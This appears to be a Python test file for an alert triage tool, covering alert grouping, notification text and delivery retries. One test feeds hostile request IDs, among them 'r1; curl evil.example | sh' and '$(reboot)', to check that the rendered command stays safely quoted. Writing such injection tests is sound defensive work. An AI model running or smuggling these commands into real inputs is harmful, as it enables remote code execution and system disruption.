"""Grouping and the text of notifications."""

import shlex
import unicodedata
from dataclasses import replace
from datetime import timedelta

import make
import pytest
from hypothesis import given
from hypothesis import strategies as st

from triage.alerts.delivery import Answer, Result, Retries, notified
from triage.alerts.grouping import flush
from triage.alerts.render import body, printable, title
from triage.changes import AlertGroup
from triage.effects import rules_alert
from triage.errors import Problem
from triage.incident import incident_code
from triage.rules.model import AlertPolicy, Cause
from triage.states import RowState
from triage.views import GroupView, RowFacts, WaitingAlert

NOW = make.NOW
LABELS = {
    "function": "my-fc-job",
    "condition": "InvocationError",
    "error_type": "TimeoutError",
    "error_message": "Function timed out after 60 seconds",
    "fingerprint": "v1-0",
    "rule": "tell",
    "owner": "media-team",
    "runbook": "https://wiki.example/media",
}
GROUP = AlertGroup("k1", ("default", "oncall"), "warning", LABELS, timedelta(seconds=30), timedelta(minutes=5))
SAMPLE = WaitingAlert("req-1", Cause.EXHAUSTED, "", NOW, 2)


def view(**changes) -> GroupView:
    base = GroupView(
        group=GROUP,
        flushes=0,
        told=0,
        first_at=NOW - timedelta(minutes=3),
        last_at=NOW,
        causes={Cause.EXHAUSTED: 1200, Cause.FAILED: 34},
        samples=(SAMPLE,),
        last_id=77,
    )
    return replace(base, **changes)


def test_a_flush_makes_one_notification_per_receiver_and_looks_again_later():
    settle = flush(RowFacts(group=view()), now=NOW)
    assert [row.payload["receiver"] for row in settle.changes.rows] == ["default", "oncall"]
    assert (settle.state, settle.due_at) == (RowState.PENDING, NOW + timedelta(minutes=5))
    (looked,) = settle.changes.looked
    assert (looked.message, looked.last_id, looked.made) == (1, 77, True)


def test_a_flush_of_nothing_ends_the_group():
    assert flush(RowFacts(group=view(causes={}, samples=())), now=NOW).state is RowState.DONE


def test_a_repeat_after_a_crash_has_the_same_key_and_code():
    first, again = (flush(RowFacts(group=view()), now=NOW + timedelta(seconds=s)) for s in (0, 90))
    assert [row.key for row in first.changes.rows] == [row.key for row in again.changes.rows]
    assert {row.payload["code"] for row in first.changes.rows + again.changes.rows} == {incident_code("k1", 1)}


def test_the_text_says_what_since_when_how_often_tried_and_who():
    assert title(view(), "ab12cd") == "my-fc-job failed: TimeoutError × 1,234 #ab12cd"
    assert body(view(told=5, silenced=2)).splitlines() == [
        "Error: Function timed out after 60 seconds",
        "Count: 1,234 since 2026-03-01 11:57:00 UTC, last 2026-03-01 12:00:00 UTC",
        "Before: 5 told, 2 silenced",
        "Outcome: 1,200 of 1,234 failed; re-run without success, no attempt or time is left",
        "Outcome: 34 of 1,234 failed; told at once, as the rule wants",
        "Look: triage failures show req-1",
        "All: triage failures list --function my-fc-job --since 2026-03-01T11:57:00Z",
        "Run again: triage plan --function my-fc-job --since 2026-03-01T11:57:00Z --state alerted",
        "Runbook: https://wiki.example/media",
        "Newest:",
        "  req-1 at 2026-03-01 12:00:00 UTC, re-run 2 times",
        "  … and 1,233 more",
        "Severity: warning",
        "Owner: media-team",
        "Rule: tell",
    ]


@pytest.mark.parametrize("cause", Cause)
def test_every_cause_has_a_text(cause):
    assert "Outcome: 1 of 1" in body(view(causes={cause: 1}))


def test_refused_rules_are_told_with_file_line_and_reason():
    problems = [
        Problem("rules/10-media.yaml", 12, 5, "unknown key 'mach'", "did you mean 'match'?", "    mach:"),
        Problem("rules/20.yaml", 0, 0, "cannot be read: Permission denied"),
    ]
    alert = rules_alert(problems, policy=AlertPolicy(group_by=("fingerprint",)))
    sample = WaitingAlert(alert.request_id, alert.cause, alert.detail, NOW, 0)
    told = view(group=alert.group, causes={alert.cause: 1}, samples=(sample,), first_at=NOW)
    reason = "unknown key 'mach' (did you mean 'match'?); and 1 more"
    assert title(told, "ab12cd") == f"rule files cannot be used: rules/10-media.yaml:12:5: {reason} #ab12cd"
    assert body(told).splitlines() == [
        f"Error: rules/10-media.yaml:12:5: {reason}",
        "Count: 1 since 2026-03-01 12:00:00 UTC",
        "Outcome: 1 of 1 could not be used; the last good rules stay in force",
        "Look: triage status",
        "Newest:",
        f"  rules/10-media.yaml:12:5 at 2026-03-01 12:00:00 UTC — {reason}",
        "Severity: warning",
    ]


def test_all_refused_rules_make_one_group():
    policy = AlertPolicy(group_by=("fingerprint",))
    edits = [Problem("a.yaml", 1, 1, "one"), Problem("b.yaml", 0, 0, "two")]
    assert len({rules_alert([problem], policy=policy).group.key for problem in edits}) == 1


def test_the_command_to_look_can_be_pasted_whatever_the_request_id_is():
    for request_id in ("1-670648a1", "r1; curl evil.example | sh", "$(reboot)", "r'1", "x" * 256):
        sample = replace(SAMPLE, request_id=request_id)
        (command,) = [line for line in body(view(samples=(sample,))).splitlines() if line.startswith("Look: ")]
        assert shlex.split(command, comments=True) == ["Look:", "triage", "failures", "show", request_id]


@given(st.text(), st.integers(1, 50))
def test_hostile_text_stays_on_one_line_and_short(text, limit):
    shown = printable(text, limit)
    assert len(shown) <= limit
    assert not any(unicodedata.category(char)[0] == "C" for char in shown)


@given(st.dictionaries(st.sampled_from(sorted(LABELS)), st.text(max_size=5000)))
def test_any_labels_give_a_readable_message(labels):
    group = replace(GROUP, labels={**LABELS, **labels})
    assert len(body(view(group=group))) < 4000
    assert "\n" not in title(view(group=group), "ab12cd")


# ---------------------------------------------------------------- delivering


SENT = Answer(Result.SENT, "target 1 (json)")


def notify_row(**payload):
    (new, _) = flush(RowFacts(group=view()), now=NOW).changes.rows
    return make.claimed(new, **payload)


def test_all_targets_took_it():
    settle = notified(notify_row(), {"a": SENT}, retries=Retries(), now=NOW)
    assert (settle.state, settle.delivery, settle.changes.told) == (RowState.DONE, "sent", (("k1", 1),))


def test_only_the_targets_that_missed_it_are_tried_again():
    settle = notified(
        notify_row(),
        {"a": SENT, "b": Answer(Result.UNKNOWN, "target 2 (json)", "no answer within 15 s")},
        retries=Retries(),
        now=NOW,
    )
    assert (settle.state, settle.delivery, settle.payload["sent"]) == (RowState.PENDING, "unknown", ["a"])
    assert settle.changes.told == (("k1", 1),)
    assert settle.note == "target 2 (json): unknown, no answer within 15 s"


@pytest.mark.parametrize("results", [{"a": Answer(Result.FAILED, "target 1 (json)")}, {}])
def test_undeliverable_for_a_day_is_dead_and_says_so(results):
    late = NOW + timedelta(hours=24)
    settle = notified(notify_row(), results, retries=Retries(), now=late)
    assert (settle.state, settle.delivery, settle.changes.told) == (RowState.DEAD, "dead", ())
    assert settle.note
